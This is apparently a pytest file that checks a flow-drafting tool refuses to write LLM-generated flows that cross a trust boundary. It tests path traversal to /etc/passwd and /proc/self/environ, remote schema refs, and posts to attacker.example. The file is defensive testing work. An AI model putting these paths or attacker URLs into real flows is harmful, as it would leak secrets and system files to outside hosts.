"""Issue 10, items 1 and 10 through `flowgen draft`: an LLM answer that reads a file outside
the flow's folder, or writes dead letters outside it, is never written.

The scripted OpenAI-compatible server on 127.0.0.1 answers with the hostile flow on every
round (real HTTP, the real openai client): the repair loop cannot fix it, so no file.
"""

from __future__ import annotations

import json

import pytest

from copilot.draft.wire import to_wire

from .fake_llm import chat
from .test_llm_draft import good_flow, run


def _with_source(path: str) -> dict:
    data = good_flow()
    retrieve = next(s for s in data["steps"] if s["type"] == "retrieve")
    retrieve["sources"] = [{"path": path, "version": "2026-12-06"}]
    return data


def _with_dead_letter(path: str) -> dict:
    data = good_flow()
    data["on_error"] = {"dead_letter": {"path": path}}
    return data


@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param(_with_source("/proc/self/environ"), id="source-proc-environ"),
        pytest.param(_with_source("../../../../etc/passwd"), id="source-dotdot"),
        pytest.param(_with_dead_letter("../../outside/dl.jsonl"), id="dead-letter-dotdot"),
        pytest.param(_with_dead_letter("/tmp/flowgen-outside-dl.jsonl"), id="dead-letter-absolute"),
    ],
)
def test_draft_never_writes_a_flow_that_leaves_its_folder(fake_llm, tmp_path, hostile):
    answer = chat(json.dumps(to_wire(hostile)))
    outcome, out = run(fake_llm, tmp_path, *[answer] * 8)
    assert not out.exists()
    assert not outcome.written
    assert outcome.exit_code != 0
    codes = {f["code"] for round_ in outcome.rounds for f in round_["findings"]}
    assert "FG710" in codes
    # the repair prompt names the finding, so a model can fix it
    repair = [m["content"] for m in fake_llm.requests[1]["messages"] if m["role"] == "user"][-1]
    assert "FG710" in repair


def _with_http(**request: object) -> dict:
    data = good_flow()
    http = next(s for s in data["steps"] if s["type"] == "http")
    http["request"] = {**http["request"], **request}
    return data


def _with_schema_ref(url: str) -> dict:
    data = good_flow()
    data["trigger"]["event_schema"] = {"$ref": url}
    return data


def _with_copy_then_post() -> dict:
    data = _with_http(json={"ticket": "{{ event.id }}", "who": "{{ steps.contact.output.email }}"})
    http = next(s for s in data["steps"] if s["type"] == "http")
    data["steps"].insert(0, {"id": "contact", "type": "transform", "output": {"email": "{{ event.email }}"}})
    http["needs"] = [*http.get("needs", []), "contact"]
    return data


@pytest.mark.parametrize(
    ("hostile", "code"),
    [
        pytest.param(_with_dead_letter("../../outside/dl.jsonl"), "FG710", id="FG710-dead-letter"),
        pytest.param(_with_schema_ref("http://127.0.0.1:9/schema.json"), "FG711", id="FG711-remote-ref"),
        pytest.param(_with_http(url="https://attacker.example/collect"), "FG712", id="FG712-literal-host"),
        pytest.param(_with_http(url="${env:PAGER_URL}@attacker.example/"), "FG712", id="FG712-env-userinfo"),
        pytest.param(_with_http(json={"event": "{{ event }}"}), "FG713", id="FG713-whole-event"),
        pytest.param(_with_copy_then_post(), "FG713", id="FG713-through-a-step"),
    ],
)
def test_allow_findings_never_writes_a_flow_that_crosses_the_trust_boundary(
    fake_llm, tmp_path, hostile, code
):
    """Item 11: --allow-findings writes flows with findings, but never a trust-boundary one."""
    answer = chat(json.dumps(to_wire(hostile)))
    outcome, out = run(fake_llm, tmp_path, answer, max_repairs=0, allow_findings=True)
    assert not out.exists() and not outcome.written
    assert outcome.exit_code == 2
    assert code in {f["code"] for f in outcome.findings}
    assert "crosses the trust boundary" in (outcome.error or ""), outcome.error
